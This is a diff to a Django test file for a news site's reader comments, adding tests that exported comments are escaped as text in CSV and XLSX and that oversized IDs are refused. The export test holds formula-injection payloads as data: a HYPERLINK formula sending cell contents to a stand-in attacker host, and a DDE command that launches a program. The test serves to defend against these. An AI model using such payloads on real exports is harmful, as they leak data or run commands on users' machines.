@@ -1,5 +1,7 @@
 """Readers' comments on articles: posting, spam rules, moderation, counts, editions."""
 
+import csv
+import io
 import re
 import time
 
@@ -11,6 +13,7 @@ from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from openpyxl import load_workbook
 from wagtail.models import Page
 
 from core.factories import SiteSettingsFactory
@@ -20,7 +23,7 @@ from news.factories import ArticlePageFactory, CommentFactory
 from news.models import ArticlePage, Comment
 from reader_input.antispam import HONEYPOT_FIELD, TOKEN_FIELD, make_token
 from tests.editions_helpers import locale, make_edition, translate
-from tests.reader_forms import edition_url, post_comment
+from tests.reader_forms import ORIGIN, edition_url, post_comment
 
 LIST_URL = "/admin/snippets/news/comment/"
 Status = Comment.Status
@@ -685,3 +688,64 @@ def test_each_edition_closes_its_own_translation(client, article, home_page):
     assert "<form" in comments_html(client.get(article.url))
     assert post_comment(client, persian, comment_data()).status_code == 403
     assert post_comment(Client(), article, comment_data()).status_code == 302
+
+
+# --- Export -------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_exported_comments_never_run_as_formulas(client, moderator, article):
+    """Cells starting with = + - @, a tab or a carriage return are exported with a leading
+    quote, in CSV and XLSX: a spreadsheet shows them as text instead of running them."""
+    formulas = [
+        '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    for formula in formulas:
+        CommentFactory(page=article, name=formula, text=formula, status=Status.PENDING)
+    CommentFactory(page=article, name="Leyla", text="Two - and + are fine inside")
+    expected = sorted(["'" + formula for formula in formulas] + ["Two - and + are fine inside"])
+    client.force_login(moderator)
+
+    response = client.get(LIST_URL, {"export": "csv"})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(content, newline="")))
+    assert sorted(row["Comment"] for row in rows) == expected
+    assert "'=HYPERLINK" in {row["Name"][:11] for row in rows}
+
+    response = client.get(LIST_URL, {"export": "xlsx"})
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    headings = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
+    column = headings.index("Comment")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    # XML reads a carriage return back as a line feed.
+    assert sorted(cell.value.replace("\n", "\r") for cell in cells) == expected
+    assert {cell.data_type for cell in cells} == {"s"}
+
+
+# --- Ids out of range -----------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("page_id", ["9" * 19, "9" * 30])
+def test_an_id_too_large_for_any_table_is_a_404_not_a_server_error(client, article, page_id):
+    """SQLite cannot be asked about a number over 2**63 - 1 (OverflowError, a 500): such
+    an address is no page's, and is refused before any query."""
+    client.raise_request_exception = False
+    response = client.post(f"/en/comments/{page_id}/post/", comment_data(), HTTP_ORIGIN=ORIGIN)
+    assert response.status_code == 404
+
+
+@pytest.mark.django_db
+def test_replying_to_an_id_too_large_for_any_table_is_a_form_error(client, article):
+    response = post_comment(client, article, comment_data(reply_to="9" * 20))
+    assert response.status_code == 200
+    assert "cannot be answered" in html_of(response)
+    assert not Comment.objects.exists()
+    assert client.get(article.url, {"reply_to": "9" * 30}).status_code == 200
